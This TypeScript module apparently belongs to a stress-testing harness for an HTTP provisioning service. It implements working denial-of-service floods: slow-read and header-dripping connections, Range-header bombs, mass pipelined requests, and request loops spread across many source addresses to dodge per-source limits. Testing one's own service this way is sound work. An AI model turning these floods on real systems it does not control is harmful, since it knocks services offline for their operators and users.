import type net from 'node:net';
import { Connections, head } from './connections.ts';
import type { Attack, Order, Running } from './order.ts';

/** Floods of connections to the http service. */

type Kind = 'slow-read' | 'idle' | 'bombs' | 'pages';
type Of<K extends Kind> = Extract<Attack, { does: K }>;

/** So that ten thousand have ports enough, and limits of one source do not end the flood. */
const ADDRESSES = 16;
const SIP_MS = 250;
const DRIP_MS = 500;
const RANGES = 1000;
const PIPELINED = 2000;
const SCRIPT = '/infrakit.ipxe';

const FLOODS: {
  readonly [K in Kind]: (attack: Of<K>, order: Order, connections: Connections) => Promise<void>;
} = {
  async 'slow-read'({ clients }, { large }, connections) {
    connections.keep(clients, (socket) => {
      socket.pause();
      socket.write(head('GET', `/${large}`));
      const timer = setInterval(() => socket.read(512), SIP_MS);
      socket.on('close', () => clearInterval(timer));
    });
  },
  async idle({ connections: wanted, dripping }, { large }, connections) {
    connections.keep(dripping, (socket) => drip(socket, head('GET', `/${large}`, `X: ${'x'.repeat(5000)}`)));
    await connections.make(wanted, () => {});
  },
  async bombs({ connections: wanted }, { large }, connections) {
    const ranges = Array.from({ length: RANGES }, (_, n) => `${n * 7}-${n * 7 + 5000}`).join(',');
    const ranged = head('GET', `/${large}`, `Range: bytes=${ranges}`);
    const overlong = head('GET', `/${large}`, `Range: bytes=${'0-,'.repeat(3000)}0-`);
    const pipelined = [head('GET', `/${large}`), head('GET', SCRIPT), head('GET', '/api/leases')].map((one) =>
      one.repeat(PIPELINED),
    );
    const bombs = [ranged, overlong, ...pipelined];
    let thrown = 0;
    connections.keep(wanted, (socket) => {
      const bomb = bombs[thrown++ % bombs.length]!;
      // Answers of pipelined requests are not read, those of ranges are.
      if (pipelined.includes(bomb)) socket.pause();
      socket.write(bomb);
      setTimeout(() => socket.destroy(), 2000);
    });
  },
  async pages({ listening, loops }, _, connections) {
    connections.keep(listening, (socket) => socket.write(head('GET', '/events')));
    const paths = ['/api/leases', '/api/machines', '/metrics', '/healthz', '/'];
    for (let n = 0; n < loops; n++) {
      const asked = head('GET', paths[n % paths.length]!);
      connections.keep(1, (socket) => {
        socket.write(asked);
        // An answer is mostly one piece: another question follows each.
        socket.on('data', () => socket.write(asked));
      });
    }
  },
};

export async function connect(attack: Of<Kind>, order: Order): Promise<Running> {
  const connections = new Connections(order, ADDRESSES);
  const begin = FLOODS[attack.does] as (of: Of<Kind>, order: Order, on: Connections) => Promise<void>;
  await begin(attack, order, connections);
  return {
    stop() {
      const { open } = connections;
      return { open, ...connections.stop() };
    },
  };
}

function drip(socket: net.Socket, text: string): void {
  let at = 0;
  const timer = setInterval(() => socket.write(text[at++ % text.length]!), DRIP_MS);
  socket.on('close', () => clearInterval(timer));
}
